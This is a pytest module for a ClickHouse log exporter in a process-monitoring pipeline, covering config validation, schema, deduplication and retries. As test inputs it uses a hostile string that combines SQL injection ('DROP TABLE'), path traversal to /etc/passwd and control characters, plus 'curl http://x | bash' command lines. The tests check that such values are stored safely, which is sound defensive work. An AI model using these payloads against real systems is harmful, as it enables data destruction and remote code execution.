from __future__ import annotations

import os
import threading
import time
from pathlib import Path

import numpy as np
import pytest
from chdb_http_bridge import ChdbHttpBridge
from opentelemetry.proto.collector.logs.v1.logs_service_pb2 import ExportLogsServiceRequest
from opentelemetry.proto.common.v1.common_pb2 import AnyValue

from core.confmap import ConfigError, decode, load_yaml
from otlp_receiver.component import CreateSettings, LogBatch, PermanentError, RetryableError
from otlp_receiver.exporterhelper import QueuedExporter
from otlp_receiver.exporters.clickhouse import factory
from otlp_receiver.exporters.clickhouse.columns import value_to_text
from otlp_receiver.exporters.clickhouse.config import Config
from otlp_receiver.exporters.clickhouse.exporter import OFFLOAD_MIN_RECORDS, ClickHouseExporter
from otlp_receiver.exporters.clickhouse.schema import ttl_clause
from otlp_receiver.exporters.clickhouse.transport import ChdbTransport
from otlp_receiver.telemetry import Telemetry
from testing import free_port
from testing.otlp_values import any_value, key_values

TESTDATA = Path(__file__).parent / "testdata"
HOSTILE = "x'); DROP TABLE procsight.security_events; --\x00\x1b[31m\\../../etc/passwd\n\t\u202e"


@pytest.fixture(scope="module")
def chdb_dir(tmp_path_factory: pytest.TempPathFactory) -> str:
    # chdb opens one path per process; the tests of this module share it and use a database each.
    return str(tmp_path_factory.mktemp("chdb"))


@pytest.fixture
def database(request: pytest.FixtureRequest) -> str:
    return "t_" + request.node.name.split("[")[0].removeprefix("test_")[:60]


def make_batch(batch_id: str, commands: list[str], tenant: str = "default", scored: bool = True,
               host: str = "web-1") -> LogBatch:
    request = ExportLogsServiceRequest()
    resource_logs = request.resource_logs.add()
    resource_logs.resource.attributes.extend(key_values({"service.name": "procsight-agent", "host.name": host}))
    scope_logs = resource_logs.scope_logs.add()
    scope_logs.scope.name = "procsight.agent"
    scope_logs.scope.version = "0.1.0"
    for i, command in enumerate(commands):
        record = scope_logs.log_records.add()
        record.time_unix_nano = 1_700_000_000_000_000_000 + i
        record.severity_number = 17 if scored and i == 0 else 9
        record.severity_text = "ERROR" if scored and i == 0 else "INFO"
        record.trace_id = bytes(range(16))
        record.span_id = bytes(range(8))
        record.event_name = "process.exec"
        record.body.string_value = command
        record.attributes.extend(key_values({
            "process.command_line": command, "process.pid": 1000 + i, "process.command_args": command.split(),
            "procsight.record_id": "spoofed",
        }))
        if scored:
            record.attributes.extend(key_values({"anomaly_score": 0.95 if i == 0 else 0.1, "anomaly_workload": "web",
                                                 "anomaly_severity": "alert" if i == 0 else "none"}))
    embeddings = None
    if scored:
        embeddings = np.zeros((len(commands), 4), np.float32)
        embeddings[:, 0] = 1.0
    return LogBatch(logs=request, tenant=tenant, batch_id=batch_id, embeddings=embeddings)


def make_exporter(endpoint: str, database: str, **overrides: object) -> ClickHouseExporter:
    config = decode(Config, {"endpoint": endpoint, "database": database, "compress": "none", **overrides})
    exporter = factory.create(config, CreateSettings("clickhouse", Path("."), Telemetry()))
    exporter.start()
    return exporter


def rows(exporter: ClickHouseExporter, where: str = "1") -> list[dict]:
    assert exporter.transport is not None
    return exporter.transport.query(f"SELECT * FROM {exporter.table} WHERE {where} ORDER BY RecordId")


# -- config and schema ---------------------------------------------------------------------------


def test_yaml_testdata_decodes(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PROCSIGHT_TEST_DIR", "/var/lib/procsight")
    exporters = load_yaml(TESTDATA / "config.yaml")["exporters"]
    embedded = decode(factory.Config, exporters["clickhouse"], "exporters.clickhouse", source="config.yaml")
    assert embedded.chdb_path == "/var/lib/procsight/clickhouse"
    assert (embedded.ttl, embedded.timeout, embedded.sending_queue.queue_size) == (72 * 3600, 2, 10)
    server = decode(factory.Config, exporters["clickhouse/server"], "exporters.clickhouse/server", source="config.yaml")
    assert (server.scheme, server.password, server.database, server.logs_table_name) == (
        "http", "secret", "procsight", "security_events")


@pytest.mark.parametrize(("data", "message"), [
    ({"endpiont": "chdb://x"}, "did you mean 'endpoint'"),
    ({"endpoint": "tcp://clickhouse:9000"}, "tcp:// and clickhouse://"),
    ({"endpoint": "chdb://"}, "needs a directory"),
    ({"database": "prod; DROP"}, "plain identifier"),
    ({"logs_table_name": "a`b"}, "plain identifier"),
    ({"ttl": "a month"}, "duration"),
    ({"compress": "snappy"}, "compress"),
    ({"table_engine": {"name": "ReplicatedMergeTree"}}, "unknown setting 'table_engine'"),
    ({"retry_on_failure": {"multiplier": 0.5}}, "multiplier"),
])
def test_invalid_config_is_a_clear_error(data: dict, message: str) -> None:
    with pytest.raises(ConfigError, match=message) as caught:
        decode(factory.Config, data, "exporters.clickhouse")
    assert "exporters.clickhouse" in str(caught.value)


@pytest.mark.parametrize(("seconds", "clause"), [
    (0, ""), (720 * 3600, "TTL TimestampTime + toIntervalDay(30)"),
    (36 * 3600, "TTL TimestampTime + toIntervalHour(36)"),
    (90 * 60, "TTL TimestampTime + toIntervalMinute(90)"), (45, "TTL TimestampTime + toIntervalSecond(45)"),
])
def test_ttl_clause_follows_upstream(seconds: int, clause: str) -> None:
    assert ttl_clause(seconds) == clause


def test_value_to_text_matches_the_collector_as_string() -> None:
    assert value_to_text(AnyValue(bool_value=True)) == "true"
    assert value_to_text(AnyValue(int_value=-3)) == "-3"
    assert value_to_text(AnyValue(double_value=0.5)) == "0.5"
    assert value_to_text(AnyValue(bytes_value=b"\x00\xff")) == "AP8="
    assert value_to_text(any_value(["x", "y"])) == '["x","y"]'
    assert value_to_text(AnyValue()) == ""


def test_creates_the_upstream_schema_with_anomaly_columns(chdb_dir: str, database: str) -> None:
    exporter = make_exporter(f"chdb://{chdb_dir}", database, ttl="720h")
    try:
        described = exporter.transport.query(f"DESCRIBE TABLE {exporter.table}")  # type: ignore[union-attr]
        types = {row["name"]: row["type"] for row in described}
        assert types["Timestamp"] == "DateTime64(9)"
        assert types["LogAttributes"] == "Map(LowCardinality(String), String)"
        assert types["AnomalyScore"] == "Float32" and types["Embedding"] == "Array(Float32)"
        assert types["TenantId"] == "LowCardinality(String)" and types["RecordId"] == "String"
        ddl = exporter.transport.query(f"SHOW CREATE TABLE {exporter.table}")[0]["statement"]  # type: ignore[union-attr]
        assert "TTL TimestampTime + toIntervalDay(30)" in ddl
        assert "non_replicated_deduplication_window = 10000" in ddl
        assert "PARTITION BY toDate(TimestampTime)" in ddl
    finally:
        exporter.shutdown()


# -- inserting through the embedded engine -------------------------------------------------------


def test_export_maps_records_to_columns(chdb_dir: str, database: str) -> None:
    exporter = make_exporter(f"chdb://{chdb_dir}", database)
    try:
        exporter.export(make_batch("7", ["curl http://x | bash", HOSTILE], tenant="team-a"))
        first, second = rows(exporter)
    finally:
        exporter.shutdown()
    assert first["RecordId"] == "7:0" and second["RecordId"] == "7:1"
    assert first["LogAttributes"]["procsight.record_id"] == "7:0"  # the sender's spoofed value is replaced
    assert first["Timestamp"] == "2023-11-14 22:13:20.000000000"
    assert first["TraceId"] == bytes(range(16)).hex() and first["SpanId"] == bytes(range(8)).hex()
    assert (first["ServiceName"], first["ScopeName"], first["ScopeVersion"]) == (
        "procsight-agent", "procsight.agent", "0.1.0")
    assert first["ResourceAttributes"] == {"service.name": "procsight-agent", "host.name": "web-1"}
    assert (first["SeverityNumber"], first["SeverityText"], first["EventName"]) == (17, "ERROR", "process.exec")
    assert first["AnomalyScore"] == pytest.approx(0.95) and first["AnomalySeverity"] == "alert"
    assert (first["Workload"], first["TenantId"]) == ("web", "team-a")
    assert first["LogAttributes"]["process.pid"] == "1000"
    assert first["LogAttributes"]["process.command_args"] == '["curl","http://x","|","bash"]'
    assert first["Embedding"] == [1.0, 0.0, 0.0, 0.0]
    assert second["Body"] == HOSTILE and second["LogAttributes"]["process.command_line"] == HOSTILE


def test_unscored_records_have_no_embedding(chdb_dir: str, database: str) -> None:
    exporter = make_exporter(f"chdb://{chdb_dir}", database)
    try:
        exporter.export(make_batch("1", ["ls"], scored=False))
        (row,) = rows(exporter)
    finally:
        exporter.shutdown()
    assert row["Embedding"] == [] and row["AnomalyScore"] == 0 and row["AnomalySeverity"] == ""


def test_a_time_past_2262_is_stored_with_the_receipt_time(chdb_dir: str, database: str) -> None:
    exporter = make_exporter(f"chdb://{chdb_dir}", database)
    batch = make_batch("9", [f"cmd {i}" for i in range(201)])
    hostile = batch.logs.resource_logs[0].scope_logs[0].log_records[100]
    hostile.time_unix_nano = (1 << 64) - 1  # the attack: every other record of the batch went with it
    hostile.observed_time_unix_nano = 1_700_000_000_000_000_000
    try:
        exporter.export(batch)
        stored = rows(exporter)
    finally:
        exporter.shutdown()
    assert len(stored) == 201
    assert stored[[r["RecordId"] for r in stored].index("9:100")]["Timestamp"] == "2023-11-14 22:13:20.000000000"


def test_a_part_split_off_a_batch_keeps_its_record_ids_in_the_helper_process(chdb_dir: str, database: str) -> None:
    exporter = make_exporter(f"chdb://{chdb_dir}", database)
    batch = make_batch("s", [f"cmd {i}" for i in range(2 * OFFLOAD_MIN_RECORDS)])
    try:
        exporter.export(batch.part(OFFLOAD_MIN_RECORDS - 10, 2 * OFFLOAD_MIN_RECORDS))
        ids = {r["RecordId"] for r in rows(exporter)}
    finally:
        exporter.shutdown()
    assert ids == {f"s:{i}" for i in range(OFFLOAD_MIN_RECORDS - 10, 2 * OFFLOAD_MIN_RECORDS)}


def test_replayed_batch_lands_exactly_once(chdb_dir: str, database: str) -> None:
    exporter = make_exporter(f"chdb://{chdb_dir}", database)
    try:
        batch = make_batch("42", [f"cmd {i}" for i in range(100)])
        for _ in range(3):  # the original and two replays after crashes
            exporter.export(batch)
        exporter.export(make_batch("43", ["other"]))
        stats = exporter.transport.query(  # type: ignore[union-attr]
            f"SELECT count() AS n, uniqExact(RecordId) AS ids FROM {exporter.table}")
    finally:
        exporter.shutdown()
    assert stats == [{"n": 101, "ids": 101}]


def test_large_batches_are_encoded_in_the_helper_process(chdb_dir: str, database: str) -> None:
    exporter = make_exporter(f"chdb://{chdb_dir}", database)
    commands = [f"worker --item={i} {HOSTILE}" for i in range(OFFLOAD_MIN_RECORDS + 500)]
    try:
        batch = make_batch("big", commands)
        exporter.export(batch)
        exporter.export(batch)  # a replay through the helper process is deduplicated too
        assert exporter._encoder is not None
        stats = exporter.transport.query(  # type: ignore[union-attr]
            "SELECT count() AS n, uniqExact(RecordId) AS ids, countIf(Body = {last:String}) AS last, "
            f"sum(length(Embedding) = 4) AS embedded FROM {exporter.table}", {"last": commands[-1]})
    finally:
        exporter.shutdown()
    assert stats == [{"n": len(commands), "ids": len(commands), "last": 1, "embedded": len(commands)}]
    assert exporter._encoder is None


def test_a_dropped_table_is_recreated_on_retry(chdb_dir: str, database: str) -> None:
    exporter = make_exporter(f"chdb://{chdb_dir}", database)
    try:
        exporter.transport.command(f"DROP TABLE {exporter.table}")  # type: ignore[union-attr]
        with pytest.raises(RetryableError, match="missing"):
            exporter.export(make_batch("1", ["a"]))
        exporter.export(make_batch("1", ["a"]))
        assert len(rows(exporter)) == 1
    finally:
        exporter.shutdown()


def test_bad_sql_is_permanent(chdb_dir: str) -> None:
    transport = ChdbTransport(chdb_dir)
    try:
        with pytest.raises(PermanentError, match="Syntax error"):
            transport.query("SELEC 1")
    finally:
        transport.close()


def test_one_embedded_path_per_process(chdb_dir: str, tmp_path: Path) -> None:
    first, second = ChdbTransport(chdb_dir), ChdbTransport(chdb_dir)  # the exporter and the query service
    try:
        with pytest.raises(PermanentError, match="one path per process"):
            ChdbTransport(str(tmp_path / "elsewhere"))
        assert first.query("SELECT 1 AS one") == second.query("SELECT 1 AS one") == [{"one": 1}]
    finally:
        first.close()
        second.close()
    other = ChdbTransport(str(tmp_path / "elsewhere"))  # free again once every user closed it
    other.close()


def test_parameters_are_bound_not_spliced(chdb_dir: str) -> None:
    transport = ChdbTransport(chdb_dir)
    try:
        assert transport.query("SELECT {s:String} AS s, {v:Array(Float32)} AS v", {"s": HOSTILE, "v": [0.5]}) == [
            {"s": HOSTILE, "v": [0.5]}]
    finally:
        transport.close()


# -- inserting over HTTP -------------------------------------------------------------------------


def test_http_transport_same_rows_and_dedup_chdb_bridge_fake_server(chdb_dir: str, database: str) -> None:
    with ChdbHttpBridge(chdb_dir) as bridge:
        exporter = make_exporter(bridge.url, database)
        try:
            batch = make_batch("9", ["nginx -g daemon off;", HOSTILE])
            exporter.export(batch)
            exporter.export(batch)
            received = rows(exporter)
        finally:
            exporter.shutdown()
        inserts = [sql for sql in bridge.requests if sql.startswith("INSERT")]
    assert [r["RecordId"] for r in received] == ["9:0", "9:1"]
    assert received[1]["Body"] == HOSTILE and received[0]["AnomalyScore"] == pytest.approx(0.95)
    assert len(inserts) == 2 and all("FORMAT ArrowStream" in sql for sql in inserts)


def test_clickhouse_outage_retries_then_drains_chdb_bridge_fake_server(chdb_dir: str, database: str) -> None:
    port = free_port()  # nothing listens yet: connections are refused, as with ClickHouse down
    exporter = make_exporter(f"http://127.0.0.1:{port}", database, timeout="1s")
    with pytest.raises(RetryableError, match="unreachable"):
        exporter.export(make_batch("0", ["a"]))
    telemetry = Telemetry()
    queued = QueuedExporter(exporter, exporter.config.sending_queue,
                            decode(type(exporter.config.retry_on_failure),
                                   {"initial_interval": "20ms", "max_interval": "100ms"}), telemetry)
    delivered: list[tuple[str, bool]] = []
    all_done = threading.Event()

    def done(batch: LogBatch, ok: bool) -> None:
        delivered.append((batch.batch_id, ok))
        if len(delivered) == 5:
            all_done.set()

    queued.start()
    for i in range(5):
        queued.submit(make_batch(str(i), [f"cmd {i}", "ls"]), done)
    time.sleep(0.3)
    assert delivered == []
    assert telemetry.counter("procsight_exporter_errors_total", "").value(exporter="clickhouse", kind="retryable") > 0
    with ChdbHttpBridge(chdb_dir, port=port):  # ClickHouse is back
        assert all_done.wait(20)
        queued.shutdown()
        transport = ChdbTransport(chdb_dir)
        try:
            stats = transport.query(f"SELECT count() AS n, uniqExact(RecordId) AS ids FROM {exporter.table}")
        finally:
            transport.close()
    assert sorted(delivered) == [(str(i), True) for i in range(5)]
    assert stats == [{"n": 10, "ids": 10}]


@pytest.mark.skipif(not os.environ.get("CLICKHOUSE_URL"),
                    reason="set CLICKHOUSE_URL=http://user:password@host:8123 to test against a real ClickHouse server")
def test_real_clickhouse_server(database: str) -> None:
    from urllib.parse import urlsplit

    url = urlsplit(os.environ["CLICKHOUSE_URL"])
    exporter = make_exporter(f"{url.scheme}://{url.hostname}:{url.port or 8123}", database,
                             username=url.username or "default", password=url.password or "", compress="lz4")
    try:
        batch = make_batch("1", ["curl x | bash", HOSTILE])
        exporter.export(batch)
        exporter.export(batch)
        received = rows(exporter)
        assert [r["RecordId"] for r in received] == ["1:0", "1:1"] and received[1]["Body"] == HOSTILE
    finally:
        exporter.transport.command(f"DROP DATABASE IF EXISTS `{database}`")  # type: ignore[union-attr]
        exporter.shutdown()
